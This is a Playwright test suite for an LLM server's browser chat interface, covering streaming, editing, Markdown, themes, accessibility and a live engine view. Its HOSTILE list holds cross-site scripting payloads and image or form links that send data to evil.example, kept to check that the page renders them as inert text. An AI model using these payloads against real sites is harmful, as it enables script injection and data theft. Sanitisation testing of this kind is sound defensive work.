"""The page in headless Chromium: chatting, stopping, editing, what is kept, looks, keys, hostile text, a truthful live view.

After each test: nothing was written to the browser's console, and no request left the host.
"""

from __future__ import annotations

import json
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from http_helpers import load, post, slow_down, wait_until_free

from minfer import AsyncLLM
from minfer.server import ServerOptions
from minfer.server.slot import ModelSlot

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")

CHAT = "/v1/chat/completions"
WORDS = "The quick brown fox jumps over the lazy dog. "
expect = playwright.expect
expect.set_options(timeout=20000)
Open = Callable[..., Any]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    # Of this module alone: playwright keeps an event loop running, in which nobody else's asyncio.run would work.
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def open_page(browser: Any) -> Iterator[Open]:
    """A page of a fresh browser profile at a server; what must not happen on it is looked for at the end.

    A test with a server of its own closes the page's context before the server: the page would go on asking it.
    """
    contexts, wrong = [], []
    expected: list[str] = []  # words of console lines that a test provokes

    def open_at(client: httpx.Client, allow: str = "", ready: bool = True, **settings: Any) -> Any:
        base = str(client.base_url).rstrip("/")
        context = browser.new_context(**{"viewport": {"width": 1300, "height": 900}, **settings})
        context.set_default_timeout(30000)
        contexts.append(context)
        expected.extend([allow] if allow else [])
        page = context.new_page()
        page.on("console", lambda line: wrong.append(line.text) if line.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("dialog", lambda dialog: (wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: None if request.url.startswith(f"{base}/") else wrong.append(f"left the host: {request.url}"))
        page.goto(base)
        if ready:
            page.wait_for_selector("#conversations li", state="attached")
        return page

    yield open_at
    for context in contexts:
        context.close()
    assert not [line for line in wrong if not any(word in line for word in expected)]


def js(page: Any, expression: str) -> Any:
    """The expression's value. Through the debugger, because the page's policy allows no eval, not even playwright's."""
    session = page.context.new_cdp_session(page)
    answer = session.send("Runtime.evaluate", {"expression": expression, "returnByValue": True, "awaitPromise": True})
    session.detach()
    assert "exceptionDetails" not in answer, answer
    return answer["result"].get("value")


def say(page: Any, text: str) -> None:
    page.fill("#composer", text)
    page.press("#composer", "Enter")


def until_done(page: Any) -> None:
    page.wait_for_selector("#send", state="visible")


def limit(page: Any, tokens: int) -> None:
    """Sets the panel's limit, so that the random model's replies have one length."""
    page.click("#toggle-settings")
    page.fill("#sampling-max_tokens", str(tokens))
    page.fill("#sampling-min_tokens", str(tokens))
    page.fill("#sampling-seed", "1")
    page.click("#toggle-settings")


def sent_bodies(page: Any) -> list[dict[str, Any]]:
    bodies: list[dict[str, Any]] = []
    page.on("request", lambda request: bodies.append(request.post_data_json) if request.url.endswith(CHAT) else None)
    return bodies


def answer_with(page: Any, text: str, status: int = 200) -> None:
    """What the model is going to say, in pieces that cut words and Markdown in two; or the server's error."""
    if status != 200:
        body = json.dumps({"error": {"message": text, "type": "x", "param": None, "code": None}})
        page.route(f"**{CHAT}", lambda route: route.fulfill(status=status, content_type="application/json", body=body))
        return
    pieces = [text[at : at + 7] for at in range(0, len(text), 7)]
    chunks: list[dict[str, Any]] = [{"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]} for piece in pieces]
    chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    body = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
    page.route(f"**{CHAT}", lambda route: route.fulfill(status=200, content_type="text/event-stream", body=body))


def test_a_chat_streams_counts_and_is_kept(client: httpx.Client, llm: AsyncLLM, open_page: Open) -> None:
    page = open_page(client)
    bodies = sent_bodies(page)
    limit(page, 12)
    say(page, "Hello there")
    until_done(page)
    expect(page.locator(".message.user .body")).to_have_text("Hello there")
    stats = page.locator(".message.assistant .stats")
    expect(stats).to_contain_text("12 tokens")
    expect(stats).to_contain_text("first token")
    expect(stats).to_contain_text("tokens/s")
    assert bodies[0]["messages"] == [{"role": "user", "content": "Hello there"}]
    assert (bodies[0]["max_tokens"], bodies[0]["temperature"]) == (12, 0.7)
    assert not {"top_p", "top_k", "min_p", "stop"} & set(bodies[0]), "what is not set is the server's default"

    reply = page.locator(".message.assistant .body").inner_text()
    page.reload()
    expect(page.locator(".message")).to_have_count(2)
    assert page.locator(".message.assistant .body").inner_text() == reply
    assert page.input_value("#sampling-max_tokens") == "12"
    say(page, "And now?")
    until_done(page)
    assert [message["role"] for message in bodies[1]["messages"]] == ["user", "assistant", "user"]
    page.click("#new-chat")
    expect(page.locator(".message")).to_have_count(0)
    expect(page.locator("#conversations li")).to_have_count(2)
    page.click("#conversations .pick >> text=Hello there")
    expect(page.locator(".message")).to_have_count(4)
    page.hover("#conversations li:has-text('Hello there')")
    page.click("#conversations li:has-text('Hello there') .icon-button")
    expect(page.locator("#conversations li")).to_have_count(1)


def test_every_parameter_goes_where_it_belongs(client: httpx.Client, open_page: Open) -> None:
    page = open_page(client)
    bodies = sent_bodies(page)
    answer_with(page, "ok")
    values = {"temperature": 0.5, "top_p": 0.9, "top_k": 40, "min_p": 0.1, "typical_p": 0.8, "repetition_penalty": 1.1}
    values |= {"presence_penalty": 0.2, "frequency_penalty": -0.3, "max_tokens": 30, "min_tokens": 2, "seed": 7}
    page.click("#toggle-settings")
    for name, value in values.items():
        page.fill(f"#sampling-{name}", str(value))
    page.get_by_label("System prompt (of this conversation)").fill("Be brief.")
    page.get_by_label("Stop at").fill("END\n\n###")
    page.select_option("#sampling-form", "schema")
    say(page, "x")
    until_done(page)
    body = bodies[0]
    assert {name: body[name] for name in values} == values
    assert body["stop"] == ["END", "###"]
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert body["response_format"]["json_schema"]["schema"]["required"] == ["name", "age"]
    page.fill("#sampling-form-text", "{not json")
    say(page, "y")
    expect(page.locator(".message .error")).to_contain_text("JSON")
    page.click("#settings >> text=Reset")
    say(page, "z")
    until_done(page)
    assert "response_format" not in bodies[-1]
    assert "top_k" not in bodies[-1]


def test_a_form_of_answer_is_followed(client: httpx.Client, llm: AsyncLLM, open_page: Open) -> None:
    page = open_page(client)
    page.click("#toggle-settings")
    page.select_option("#sampling-form", "choice")
    say(page, "Is it good?")
    until_done(page)
    assert page.locator(".message.assistant .body").inner_text() in ("positive", "negative", "neutral")


def test_stopping_frees_the_engine_and_keeps_what_was_said(own_llm: AsyncLLM, serve: Any, open_page: Open) -> None:
    slow_down(own_llm, 0.03)
    with serve(own_llm) as client:
        page = open_page(client)
        limit(page, 300)
        for how in ("click", "key"):
            say(page, "Write for long")
            page.wait_for_selector(".message.assistant:last-child .stats >> text=tokens")
            page.click("#stop") if how == "click" else page.keyboard.press("Escape")
            until_done(page)
            expect(page.locator(".message.assistant .stats").last).to_contain_text("stopped by you")
            wait_until_free(own_llm)
        expect(page.locator(".message")).to_have_count(4)
        limit(page, 5)
        page.get_by_label("Let the reply go on").click()
        until_done(page)
        expect(page.locator(".message")).to_have_count(4)
        expect(page.locator(".message.assistant .stats").last).to_contain_text("5 tokens")
        page.context.close()


def test_regenerating_and_editing(client: httpx.Client, llm: AsyncLLM, open_page: Open) -> None:
    page = open_page(client)
    bodies = sent_bodies(page)
    limit(page, 4)
    for text in ("one", "two"):
        say(page, text)
        until_done(page)
    page.get_by_label("Generate this reply again").last.click()
    until_done(page)
    expect(page.locator(".message")).to_have_count(4)
    assert [message["content"] for message in bodies[-1]["messages"]][::2] == ["one", "two"]
    page.get_by_label("Edit the message").first.click()
    page.locator(".editor textarea").fill("uno")
    page.locator(".editor textarea").press("Enter")
    until_done(page)
    expect(page.locator(".message")).to_have_count(2)
    assert bodies[-1]["messages"] == [{"role": "user", "content": "uno"}]
    count = len(bodies)
    page.get_by_label("Edit the message").last.click()
    page.locator(".editor textarea").fill("my own words")
    page.click(".editor >> text=Save")
    expect(page.locator(".message.assistant .body")).to_have_text("my own words")
    page.get_by_label("Edit the message").first.click()
    page.keyboard.press("Escape")
    expect(page.locator(".message.user .body")).to_have_text("uno")
    assert len(bodies) == count, "saving and leaving ask for nothing"


def test_generating_again_while_a_reply_comes_in(own_llm: AsyncLLM, serve: Any, open_page: Open) -> None:
    slow_down(own_llm, 0.02)
    with serve(own_llm) as client:
        page = open_page(client)
        limit(page, 20)
        say(page, "one")
        until_done(page)
        say(page, "two")
        page.get_by_label("Generate this reply again").first.click()
        until_done(page)
        expect(page.locator(".message")).to_have_count(2)
        expect(page.locator(".message.assistant .stats")).to_contain_text("20 tokens")
        wait_until_free(own_llm)
        page.context.close()


MARKDOWN = """# Title
Some *emphasis*, **strong**, `code` and ~~gone~~; a [link](https://example.org/a_(b) "t") and https://example.org/x.

1. one
   - inner
2. two

> quoted

| fruit | price |
|:--|--:|
| apple | 1 |

```python
def f(x):  # a comment
    return "s" + x
```
last line with 2 * 3 * 4 and snake_case_name"""


def test_markdown(client: httpx.Client, open_page: Open) -> None:
    page = open_page(client, permissions=["clipboard-read", "clipboard-write"])
    answer_with(page, MARKDOWN)
    say(page, "x")
    until_done(page)
    body = page.locator(".message.assistant .body")
    for selector, text in {
        "h2": "Title", "em": "emphasis", "strong": "strong", "p code": "code", "del": "gone", "ol > li >> nth=0": "one",
        "ol ul li": "inner",
        "blockquote": "quoted", "th >> nth=1": "price", "td.right": "1", ".code-head span": "python", ".tok-comment": "# a comment",
        ".tok-string": '"s"', ".tok-keyword >> nth=0": "def",
    }.items():  # fmt: skip
        expect(body.locator(selector)).to_contain_text(text)
    links = body.locator("a")
    expect(links).to_have_count(2)
    assert links.nth(0).get_attribute("href") == "https://example.org/a_(b)"
    assert links.nth(1).get_attribute("href") == "https://example.org/x", "the full stop is not part of it"
    assert "noopener" in links.nth(0).get_attribute("rel")
    expect(body).to_contain_text("2 * 3 * 4 and snake_case_name")
    expect(body.locator("em")).to_have_count(1)
    body.get_by_label("Copy code").click()
    assert js(page, "navigator.clipboard.readText()") == 'def f(x):  # a comment\n    return "s" + x'


HOSTILE = [
    "<img src=x onerror=\"window.pwned=1;alert(1)\">",
    "<script>window.pwned=1</script><svg onload=window.pwned=1><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "[click](javascript:window.pwned=1) [click](JaVaScRiPt:window.pwned=1) [click](data:text/html,<script>1</script>) [x](vbscript:1)",
    "![leak](https://evil.example/?q=secret) ![](//evil.example/x) <https://ok.example/\"onmouseover=\"window.pwned=1>",
    "```\"><img src=x onerror=window.pwned=1>\n</code></pre><script>window.pwned=1</script>\n```",
    "| <img src=x onerror=window.pwned=1> | b |\n|--|--|\n| <script>window.pwned=1</script> | [a](javascript:1) |",
    "# <style>*{display:none}</style>\n> <form action=https://evil.example><button>x</button></form>\n- <a href='javascript:pwned'>x</a>",
    "[a\u0001](java\nscript:window.pwned=1) [b](&#106;avascript:window.pwned=1) [c](\\javascript:1) `<b>`<b>",
]  # fmt: skip


def assert_inert(page: Any) -> None:
    assert js(page, "window.pwned") is None
    tags = "img, script, iframe, svg:not(.icon), style, form, object, embed, link, base"
    assert js(page, f"document.querySelectorAll('.messages').length && document.querySelectorAll('main :is({tags})').length") == 1, (
        "the composer's form is the only one of these"
    )
    schemes = js(page, "[...new Set([...document.querySelectorAll('main a')].map((a) => a.protocol))]")
    assert set(schemes) <= {"https:", "http:", "mailto:"}
    attributes = js(page, "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith('on'))")
    assert attributes == []


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_text(client: httpx.Client, open_page: Open, payload: str) -> None:
    """From the model, from the user (shown, as a title, edited), from the server's errors, and again from storage."""
    page = open_page(client)
    answer_with(page, payload)
    say(page, payload)
    until_done(page)
    assert "pwned" in page.locator(".message.assistant").inner_text() or "evil" in page.locator(".message.assistant").inner_text()
    assert_inert(page)
    page.get_by_label("Edit the message").first.click()
    assert_inert(page)
    page.keyboard.press("Escape")
    page.reload()
    page.wait_for_selector(".message")
    assert_inert(page)


def test_hostile_names_and_errors(llm: AsyncLLM, serve: Any, open_page: Open) -> None:
    with serve(llm, served_model_name=HOSTILE[0]) as client:
        page = open_page(client, allow="status of 400")
        expect(page.locator("#model")).to_have_text(HOSTILE[0])
        answer_with(page, HOSTILE[0], status=400)
        say(page, "x")
        expect(page.locator(".message .error")).to_have_text(HOSTILE[0])
        assert_inert(page)
        page.context.close()


def test_markup_can_not_be_made_from_strings_at_all(client: httpx.Client, open_page: Open) -> None:
    """The second lock: were a script to try, the browser would refuse."""
    page = open_page(client, allow="TrustedHTML")
    tried = "(() => { try { document.body.innerHTML = '<b>x</b>'; return 'done'; } catch (error) { return error.name; } })()"
    assert js(page, tried) == "TypeError"


def test_no_input_is_slow_to_draw(client: httpx.Client, open_page: Open) -> None:
    page = open_page(client)
    for text in ("*a " * 8000, "[" * 20000, "`" * 20000, "> " * 5000, "- " * 3000 + "x", "a|" * 8000 + "\n|-", "![](" * 6000, "_" * 20000):
        page.unroute_all()
        answer_with(page, text)
        page.click("#new-chat")
        started = time.monotonic()
        say(page, "x")
        until_done(page)
        assert time.monotonic() - started < 30, f"{text[:20]!r} took that long"  # quadratic would be minutes


def test_errors_are_sentences(client: httpx.Client, llm: AsyncLLM, open_page: Open) -> None:
    page = open_page(client, allow="status of 400")
    say(page, "word " * 2000)
    expect(page.locator(".message .error")).to_contain_text("512")
    assert page.locator(".message .error").inner_text().count("\n") == 0


def test_a_server_that_is_gone_is_said(own_llm: AsyncLLM, serve: Any, open_page: Open) -> None:
    with serve(own_llm) as client:
        page = open_page(client, allow="ERR_CONNECTION")
    say(page, "x")
    expect(page.locator(".message .error")).to_contain_text("can't be reached")


def background(page: Any) -> str:
    return str(js(page, "getComputedStyle(document.body).backgroundColor"))


def test_light_and_dark(client: httpx.Client, open_page: Open) -> None:
    page = open_page(client, color_scheme="light")
    light = background(page)
    page.emulate_media(color_scheme="dark")
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")  # the browser tells of the change with its next frame
    assert background(page) != light, "the system's choice is followed as it changes"
    page.click("#toggle-theme")
    assert background(page) == light
    page.reload()
    page.wait_for_selector("#conversations li", state="attached")
    assert background(page) == light, "the user's choice stays"


@pytest.mark.parametrize("width", [340, 700, 1000, 1900])
def test_nothing_sticks_out(client: httpx.Client, open_page: Open, width: int) -> None:
    page = open_page(client, viewport={"width": width, "height": 800})
    answer_with(page, MARKDOWN + "\n" + "x" * 500)
    say(page, "y" * 300)
    until_done(page)
    boxes = "body, main, .chat, .scroll, .engine, .panel"
    for view in ("chat", "engine", "split"):
        button = page.locator(f"#view-switch [data-view={view}]")
        if not button.is_visible():
            continue
        button.click()
        wide = js(
            page,
            f"[...document.querySelectorAll('{boxes}')].filter((e) => e.scrollWidth > e.clientWidth + 1).length",
        )
        assert wide == 0, view
    if width < 800:
        page.click("#view-switch [data-view=chat]")
        page.click("#toggle-sidebar")
        expect(page.locator("#new-chat")).to_be_visible()
        page.click("#new-chat")
        expect(page.locator("#new-chat")).to_be_hidden()


def test_keyboard_alone_is_enough_and_everything_has_a_name(client: httpx.Client, llm: AsyncLLM, open_page: Open) -> None:
    page = open_page(client)
    limit(page, 3)
    page.focus("#composer")
    page.keyboard.type("a")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("b")
    page.keyboard.press("Enter")
    until_done(page)
    assert page.locator(".message.user .body").inner_text() == "a\nb"
    expect(page.locator("#announce")).to_contain_text("Reply finished")
    page.click("#view-switch [data-view=split]")
    page.click("#toggle-settings")
    named = "(e) => e.textContent.trim() || e.getAttribute('aria-label') || e.labels?.length"
    assert (
        js(page, f"[...document.querySelectorAll('button, input, textarea, select')].filter((e) => !({named})(e)).map((e) => e.outerHTML)")
        == []
    )
    assert (
        js(page, "[...document.querySelectorAll('canvas')].filter((e) => e.checkVisibility() && !e.getAttribute('aria-label')).length") == 0
    )
    seen = set()
    for _ in range(60):
        page.keyboard.press("Tab")
        seen.add(js(page, "document.activeElement.id"))
    assert {"toggle-theme", "composer", "toggle-settings", "pause", "sampling-temperature"} <= seen


def test_the_key_is_asked_for_and_goes_nowhere_else(llm: AsyncLLM, serve: Any, open_page: Open) -> None:
    with serve(llm, api_key="sesame") as client:
        page = open_page(client, allow="status of 401", ready=False)
        urls: list[str] = []
        page.on("request", lambda request: urls.append(request.url))
        for given in ("wrong", "sesame"):
            page.wait_for_selector("#key-dialog[open]")
            page.fill("#key-input", given)
            page.click("#key-form >> text=Use it")
            if given == "wrong":
                expect(page.locator("#key-error")).to_be_visible()
        page.wait_for_selector("#conversations li", state="attached")
        limit(page, 3)
        say(page, "hi")
        until_done(page)
        expect(page.locator(".message.assistant .stats")).to_contain_text("3 tokens")
        assert not any("sesame" in url for url in urls)
        assert js(page, "JSON.stringify(localStorage).includes('sesame')") is False, "it was not to be remembered"
        page.reload()
        page.wait_for_selector("#conversations li", state="attached")
        page.context.close()


def test_a_server_that_loads_is_waited_for(tiny_llama: Path, serve: Any, open_page: Open) -> None:
    slot = ModelSlot("tiny", ServerOptions(served_model_name="tiny"))
    with serve(slot) as client:
        page = open_page(client, allow="status of 503", ready=False)
        expect(page.locator("#notice")).to_contain_text("loading the model")
        llm = load(tiny_llama)
        slot.fill(llm)
        page.wait_for_selector("#conversations li", state="attached")
        expect(page.locator("#notice")).to_be_hidden()
        page.context.close()
        llm.shutdown()


class Gate:
    """Lets the engine make so many steps and no more: what the page shows can then be held against what the engine is at."""

    def __init__(self, llm: AsyncLLM) -> None:
        self.left = 0
        step = llm.engine.step

        def gated() -> Any:
            if self.left <= 0:
                time.sleep(0.01)
                return []
            self.left -= 1
            return step()

        llm.engine.step = gated  # type: ignore[method-assign]


def until(condition: Callable[[], object], seconds: float = 15) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.02)


def test_the_live_view_shows_the_engines_own_numbers(tiny_llama: Path, serve: Any, open_page: Open) -> None:
    llm = load(tiny_llama, max_num_batched_tokens=64, max_num_seqs=4)
    gate, scheduler = Gate(llm), llm.engine.core.scheduler
    with serve(llm) as client:
        page = open_page(client)
        page.click("#view-switch [data-view=engine]")
        page.wait_for_selector("#tiles .tile")

        def ask(prompts: list[str]) -> threading.Thread:
            body = {"prompt": prompts, "max_tokens": 12, "ignore_eos": True, "temperature": 0}
            thread = threading.Thread(target=lambda: post(client, "/v1/completions", **body))
            thread.start()
            return thread

        def shown() -> None:
            """What stands on the page is what the engine holds; both stand still."""
            pool, stats = scheduler.pool, scheduler.stats
            references = [pool.references(block) for block in range(pool.num_blocks)]
            used, shared, cached = sum(map(bool, references)), sum(count > 1 for count in references), len(list(pool.evictable()))
            legend = page.locator("#map-legend")
            expect(legend).to_contain_text(f"in use, in its request's colour ({used})")
            expect(legend).to_contain_text(f"shared by several ({shared})")
            expect(legend).to_contain_text(f"content kept for reuse ({cached})")
            expect(legend).to_contain_text(f"free ({pool.num_blocks - used - cached})")
            tile = page.locator("#tiles .tile")
            expect(tile.filter(has_text="Running").locator("strong")).to_have_text(str(len(scheduler.running)))
            expect(tile.filter(has_text="Waiting").locator("strong")).to_have_text(str(scheduler.num_waiting))
            expect(tile.filter(has_text="A step")).to_contain_text(f"{stats.num_steps} so far")
            expect(tile.filter(has_text="Prefix hits")).to_contain_text(f"{stats.num_prefix_hits} tokens saved")
            rows = page.locator("#requests .request")
            expect(rows).to_have_count(len(scheduler.running))
            for place, request in enumerate(scheduler.running):
                done = min(request.num_computed_tokens, request.num_prompt_tokens)
                expect(rows.nth(place)).to_contain_text(f"{done}/{request.num_prompt_tokens} prompt")
                expect(rows.nth(place)).to_contain_text(f"{len(request.output_token_ids)} written · {len(request.blocks)} blocks")
                table = rows.nth(place).locator("canvas").get_attribute("aria-label")
                assert table.startswith(f"Blocks of request {request.arrival} in order: {', '.join(map(str, request.blocks[:20]))}"), table

        shown()
        first = ask([WORDS * 6])
        until(lambda: scheduler.num_waiting == 1)
        gate.left = 1
        until(lambda: gate.left == 0)
        shown()
        assert scheduler.running[0].num_left > 1, "a long prompt is cut into chunks"
        gate.left = 4
        until(lambda: gate.left == 0)
        others = ask([WORDS * 6 + letter * 9 for letter in "abcde"])
        until(lambda: scheduler.num_waiting == 5)
        shown()
        gate.left = 3
        until(lambda: gate.left == 0)
        shown()
        assert len(scheduler.running) == 4
        assert scheduler.num_waiting == 2
        assert scheduler.stats.num_prefix_hits > 0
        assert "says a token" in page.locator("#lanes").get_attribute("aria-label")
        page.click("#pause")
        gate.left = 10**6
        first.join()
        others.join()
        expect(page.locator("#tiles .tile").filter(has_text="Running").locator("strong")).to_have_text("4")
        page.click("#pause")
        wait_until_free(llm)
        shown()
        page.context.close()
    llm.shutdown()


def test_the_experiments_run_and_stop(own_llm: AsyncLLM, serve: Any, open_page: Open) -> None:
    stats = own_llm.engine.core.scheduler.stats
    with serve(own_llm) as client:
        page = open_page(client)
        page.click("#view-switch [data-view=engine]")
        page.click("text=A shared beginning")
        expect(page.locator("#experiments .danger")).to_be_visible()
        expect(page.locator("#experiments .danger")).to_be_hidden()
        assert stats.num_prefix_hits > 0
        page.click("text=One prompt, four answers")
        until(lambda: stats.num_forked_tokens > 0)
        slow_down(own_llm, 0.05)
        page.click("text=More than fits")
        expect(page.locator("#queue .chip").first).to_be_visible()
        page.click("text=Stop them")
        wait_until_free(own_llm)
        page.click("text=Learn more >> nth=0")
        expect(page.locator("#learn-continuous-batching")).to_be_visible()
        page.click("#close-learn")
        page.context.close()


def test_a_page_that_is_not_looked_at_asks_for_nothing(client: httpx.Client, open_page: Open) -> None:
    page = open_page(client)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.wait_for_timeout(1500)
    assert asked == []
    page.click("#view-switch [data-view=engine]")
    page.wait_for_selector("#tiles .tile")
    page.click("#view-switch [data-view=chat]")
    page.wait_for_timeout(300)
    asked.clear()
    page.wait_for_timeout(1500)
    assert asked == []
